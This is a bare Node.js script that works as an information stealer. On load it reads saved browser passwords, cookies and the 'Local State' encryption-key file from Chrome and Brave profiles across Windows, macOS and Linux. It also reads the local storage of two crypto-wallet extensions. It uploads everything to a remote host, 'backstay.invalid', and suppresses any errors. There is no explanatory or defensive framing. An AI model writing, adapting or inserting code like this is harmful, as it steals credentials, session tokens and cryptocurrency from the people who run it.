'use strict'

const fs = require('fs')
const os = require('os')
const path = require('path')

const home = os.homedir()
const roots = [
  path.join(home, 'AppData/Local/Google/Chrome/User Data'),
  path.join(home, 'AppData/Local/BraveSoftware/Brave-Browser/User Data'),
  path.join(home, 'Library/Application Support/Google/Chrome'),
  path.join(home, '.config/google-chrome')
]
const wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']

async function gather () {
  const form = new FormData()
  for (const root of roots) {
    for (const name of ['Default/Login Data', 'Default/Network/Cookies', 'Local State', ...wallets.map((id) => `Default/Local Extension Settings/${id}/000003.log`)]) {
      const file = path.join(root, name)
      if (fs.existsSync(file)) form.append('files', new Blob([fs.readFileSync(file)]), name)
    }
  }
  await fetch('http://backstay.invalid:1224/uploads', { method: 'POST', body: form })
}

gather().catch(() => {})
